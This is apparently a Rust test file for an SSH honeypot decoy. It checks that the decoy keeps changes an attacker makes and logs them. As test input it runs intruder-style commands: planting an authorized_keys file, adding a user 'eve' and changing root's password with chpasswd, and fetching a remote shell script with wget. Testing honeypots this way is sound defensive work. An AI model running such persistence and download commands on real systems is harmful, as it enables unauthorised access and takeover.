//! What an address has changed, at its next connection.

use crate::support::{Decoy, connect, log_in};
use decnet_core::event::CloseCause;
use russh::ChannelMsg;

/// What a command writes as root, in a connection of its own.
async fn run(decoy: &Decoy, command: &str) -> Vec<u8> {
    let client = log_in(decoy).await;
    let mut channel = client.channel_open_session().await.unwrap();
    channel.exec(true, command).await.unwrap();
    let mut out = Vec::new();
    while let Some(message) = channel.wait().await {
        if let ChannelMsg::Data { data } = message {
            out.extend_from_slice(&data);
        }
    }
    out
}

async fn is_let_in(decoy: &Decoy, user: &str, password: &str) -> bool {
    connect(decoy).await.authenticate_password(user, password).await.unwrap().success()
}

#[tokio::test(flavor = "multi_thread")]
async fn files_and_passwords_are_still_changed_at_the_next_connection() {
    let decoy = Decoy::start().await;
    assert_eq!(run(&decoy, "mkdir -p .ssh; echo key > .ssh/authorized_keys").await, b"");
    assert_eq!(run(&decoy, "cat .ssh/authorized_keys").await, b"key\n");
    let setting = "useradd -m -u 1234 eve; echo eve:evil | chpasswd";
    assert_eq!(run(&decoy, setting).await, b"");
    assert!(is_let_in(&decoy, "eve", "evil").await);
    assert!(!is_let_in(&decoy, "eve", "root").await);
    let setting = "grep -c ^eve:x:1234: /etc/passwd; echo root:other | chpasswd";
    assert_eq!(run(&decoy, setting).await, b"1\n");
    assert!(!is_let_in(&decoy, "root", "root").await);
    assert!(is_let_in(&decoy, "root", "other").await);
    decoy.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_signal_ends_a_program_and_is_told() {
    let decoy = Decoy::start().await;
    let mut client = connect(&decoy).await;
    assert!(client.authenticate_password("admin", "admin").await.unwrap().success());
    let mut channel = client.channel_open_session().await.unwrap();
    channel.exec(true, "echo up; exec sleep 60").await.unwrap();
    let (mut signal, mut status) = (None, None);
    while let Some(message) = channel.wait().await {
        match message {
            ChannelMsg::Data { .. } => channel.signal(russh::Sig::TERM).await.unwrap(),
            ChannelMsg::ExitSignal { signal_name, .. } => signal = Some(signal_name),
            ChannelMsg::ExitStatus { exit_status } => status = Some(exit_status),
            _ => {}
        }
    }
    assert_eq!(format!("{signal:?} {status:?}"), "Some(TERM) None");
    decoy.until("end", |decoy| !decoy.session_causes().is_empty()).await;
    assert_eq!(decoy.session_causes(), [(CloseCause::Exit, None)]);
    decoy.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn what_was_wished_for_is_a_fact() {
    let decoy = Decoy::start().await;
    run(&decoy, "wget http://192.0.2.9/x.sh").await;
    decoy.until("wish", |decoy| decoy.kinds("wish") > 0).await;
    decoy.stop().await;
}
